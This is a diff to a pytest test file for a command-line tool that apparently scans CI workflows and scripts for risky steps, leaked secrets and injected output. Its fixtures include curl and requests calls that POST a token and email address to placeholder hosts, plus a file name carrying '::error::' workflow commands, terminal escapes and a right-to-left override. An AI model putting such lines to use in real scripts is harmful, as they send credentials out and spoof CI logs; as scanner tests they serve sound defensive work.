@@ -3,7 +3,11 @@
 from __future__ import annotations
 
 import json
+import os
+import subprocess
+import sys
 from collections.abc import Mapping
+from datetime import date, timedelta
 from itertools import pairwise
 from pathlib import Path
 
@@ -76,6 +80,9 @@ FILES: Mapping[str, str] = {
     "s.sh": f'#!/bin/sh\n# {MAIL}\nTO={MAIL}\nfor u in {MAIL}; do curl -X POST "https://u:{TOKEN}@x.example/{MAIL}"; done\n./{TOKEN}.sh\n',
     "tasks.py": f'import requests\n"""{BOTH}"""\nrequests.post("https://u:{TOKEN}@pay.example/{MAIL}", headers={{"X": "{TOKEN}"}})\n',
     "own.py": OWN,
+    "seen.json": json.dumps({
+        "nodes": [{"name": "Mail jane.doe\x01@shop.example", "type": "n8n-nodes-base.gmail", "parameters": {}}], "connections": {},
+    }),
     f"broken-{MAIL}.yml": f"jobs: *{TOKEN}\nb: [",
     "broken.json": f'{{"jobs:": "{TOKEN}',
     "a\n::error::b\x1b[31m\u202e.sh": "#!/bin/bash\ncurl -X POST https://x.example\n",
@@ -84,6 +91,14 @@ RUN = {
     "databaseId": 77, "attempt": 1, "conclusion": "failure", "name": f"Release {BOTH}", "displayTitle": BOTH, "headBranch": MAIL,
     "jobs": [{"name": f"J {BOTH}", "conclusion": "failure", "steps": [{"name": f"Mail {BOTH}", "conclusion": "failure", "number": 1}]}],
 }  # fmt: skip
+NOTHING = f'''[[suppress]]
+rule = "R-06"
+file = "s.sh"
+at = "{BOTH} ##[error]x"
+reason = "{BOTH}"
+owner = "the desk"
+expires = {date.today() + timedelta(days=9)}
+'''
 LEAKS = (TOKEN, TOKEN[4:], TOKEN[4:].lower(), "jane", "shop.example", "hunter22")
 
 
@@ -101,6 +116,7 @@ def answers(tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, tuple[str,
         (folder / name).parent.mkdir(parents=True, exist_ok=True)
         (folder / name).write_text(text)
     (folder / "run.log").write_text(json.dumps(RUN))
+    (folder / "nothing.toml").write_text(NOTHING)
     with pytest.MonkeyPatch.context() as patch:
         patch.chdir(folder)
         found = {form: answered(".", "--all", "--format", form, "--run", "run.log") for form in ("text", "md", "json", "sarif")}
@@ -112,6 +128,7 @@ def answers(tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, tuple[str,
                 "a broken file": answered(f"broken-{MAIL}.yml"),
                 "no file": answered(f"nothing/{MAIL}\n::error::x"),
                 "no suppressions": answered(".", "--suppressions", f"{MAIL}.toml"),
+                "a suppression of nothing": answered("s.sh", "--suppressions", "nothing.toml"),
                 "no action": answered("--explain", f"\n::error::{BOTH}"),
             }
         )
@@ -156,3 +173,50 @@ def test_what_is_made_to_never_end_is_left_out_and_told(tmp_path: Path, name: st
     (tmp_path / name).write_text(text)
     out, err = answered(str(tmp_path / name))
     assert (out, "No automation was found" in err, why in err) == ("", True, True)
+
+
+CALLING = "on: {{push: , workflow_call: {{inputs: {{a: {{type: string}}}}}}}}\njobs:\n{jobs}"
+
+
+def _chain(folder: Path, length: int, jobs: str, last: str) -> None:
+    """Workflows of which each calls the next; `{n}` of the jobs is its number."""
+    for number in range(length):
+        text = jobs.replace("{n}", str(number + 1)) if number < length - 1 else last
+        path = folder / ".github" / "workflows" / f"w{number}.yml"
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(CALLING.format(jobs=text))
+
+
+def test_workflows_that_each_call_the_next_many_times_end(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    jobs = "".join(f"  j{number}:\n    uses: ./.github/workflows/w{{n}}.yml\n" for number in range(30))
+    _chain(tmp_path, 4, jobs, "  a:\n    runs-on: x\n    steps:\n      - run: npm publish\n")
+    monkeypatch.chdir(tmp_path)
+    assert "it leads to more than 500 workflows and actions" in answered(".github")[1]
+
+
+def test_inputs_that_each_hold_the_next_many_times_are_not_filled_in_for_ever(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    handed = "${{ inputs.a }} ${{ inputs.a == inputs.a && inputs.a }}" * 30
+    jobs = f'  j:\n    uses: ./.github/workflows/w{{n}}.yml\n    with: {{a: "{handed}"}}\n'
+    _chain(tmp_path, 4, jobs, f"  a:\n    runs-on: x\n    steps:\n      - run: npm publish {handed}\n")
+    monkeypatch.chdir(tmp_path)
+    out, _ = answered(".github", "--all", "--format", "json")
+    assert "npm publish" in out
+    assert len(out) < 1_000_000
+
+
+def test_a_place_that_two_facts_share_stands_once_in_sarif(tmp_path: Path) -> None:
+    (tmp_path / "a.yml").write_text("on: push\njobs:\n  a:\n    steps:\n      - run: curl -X POST https://chat.example; npm publish\n")
+    for result in json.loads(answered(str(tmp_path / "a.yml"), "--format", "sarif")[0])["runs"][0]["results"]:
+        places = [json.dumps(place, sort_keys=True) for place in result["relatedLocations"]]
+        assert len(places) == len(set(places))
+
+
+@pytest.mark.parametrize("redirect", ["| head -1", ">&-"])
+def test_a_reader_that_goes_is_no_error_in_ascii_either(tmp_path: Path, redirect: str) -> None:
+    (tmp_path / "a.sh").write_text("#!/bin/bash\n" + "curl -X POST https://chat.example\n" * 300)
+    command = f"set -o pipefail; {Path(sys.executable).with_name('halfway')} inspect a.sh --format json {redirect}"
+    done = subprocess.run(
+        ["bash", "-c", command], cwd=tmp_path, env={**os.environ, "PYTHONIOENCODING": "ascii"}, capture_output=True, text=True, check=False
+    )
+    assert done.returncode == 10
+    assert "Internal error" not in done.stderr
